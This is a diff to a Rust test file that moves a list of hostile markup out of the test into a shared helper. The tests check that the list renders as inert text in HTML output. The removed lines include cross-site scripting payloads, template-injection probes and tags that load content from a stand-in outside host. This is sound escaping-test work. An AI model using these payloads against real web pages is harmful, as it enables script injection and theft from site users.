@@ -2,7 +2,7 @@
 
 use std::collections::BTreeSet;
 
-use alertbook_testkit::{HOSTILE, record};
+use alertbook_testkit::{hostile_markup, record};
 use scraper::{Html, Selector};
 use serde_json::{Value, json};
 
@@ -92,79 +92,9 @@ fn parsed(page: &str) -> (Html, BTreeSet<String>) {
     (document, kinds)
 }
 
-fn payloads() -> Vec<String> {
-    let openers = [
-        "",
-        "\">",
-        "'>",
-        "-->",
-        "]]>",
-        "</td></tr></table>",
-        "</style>",
-        "</title>",
-        "</svg>",
-        "`",
-        "\u{202e}",
-        "\0",
-    ];
-    let bodies = [
-        "<script>alert(1)</script>",
-        "<script src=//203.0.113.9/x>",
-        "<svg onload=alert(1)>",
-        "<svg><script>alert(1)</script>",
-        "<img src=x onerror=alert(1)>",
-        "<iframe srcdoc='<script>alert(1)</script>'>",
-        "<a href=javascript:alert(1)>x</a>",
-        "<style>*{background:url(//203.0.113.9)}</style>",
-        "<link rel=stylesheet href=//203.0.113.9>",
-        "<base href=//203.0.113.9>",
-        "<meta http-equiv=refresh content=0;url=//203.0.113.9>",
-        "<math><mi xlink:href=javascript:alert(1)>",
-        "<object data=x>",
-        "<form action=//203.0.113.9><input autofocus onfocus=alert(1)>",
-        "<template><b>",
-        "<!--",
-        "<![CDATA[",
-        "<?php",
-        "<plaintext>",
-        "<textarea>",
-        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-        " onmouseover=alert(1) x=",
-        "{{7*7}}",
-        "${7*7}",
-        "<%= 7*7 %>",
-        "&lt;script&gt;",
-        "&#60;script&#62;",
-        "&#x3C;script>",
-        "&amp;",
-        "&",
-        "&quot; onload=&quot;x",
-        "javascript:alert(1)",
-        "\u{ff1c}script\u{ff1e}",
-        "<scr\0ipt>",
-        "<ſcript>",
-        "\u{2028}<script>",
-        "\u{feff}<script>",
-        "<b>x</b>",
-        "x\r\ny",
-        "\u{1b}[31m",
-        "\u{85}",
-        "\u{ffff}\u{fdd0}",
-        "\u{1f469}\u{200d}\u{1f4bb}",
-        "\u{2066}<\u{2069}",
-    ];
-    let mut all: Vec<String> = openers
-        .iter()
-        .flat_map(|opener| bodies.iter().map(move |body| [*opener, body].concat()))
-        .collect();
-    all.extend(HOSTILE.iter().map(|text| (*text).to_owned()));
-    assert!(all.len() >= 500, "{}", all.len());
-    all
-}
-
 #[test]
 fn five_hundred_hostile_texts_are_text() {
-    let payloads = payloads();
+    let payloads = hostile_markup();
     let mut events: Vec<Value> = Vec::new();
     for (payload, id) in payloads.iter().zip(1..) {
         let mut fields = json!({"EventStatus": 1, "Level": payload});
@@ -223,7 +153,7 @@ fn five_hundred_hostile_texts_are_text() {
 fn what_was_asked_for_is_text_too() {
     let data = Data::new();
     let engine = data.open_filled();
-    for payload in payloads().iter().filter(|payload| !payload.contains('\0')) {
+    for payload in hostile_markup().iter().filter(|payload| !payload.contains('\0')) {
         let remark = [payload.as_str(), "x"].concat();
         let mut call = call(&[("Remark", &remark)]);
         call.options.format = Some("html".to_owned());
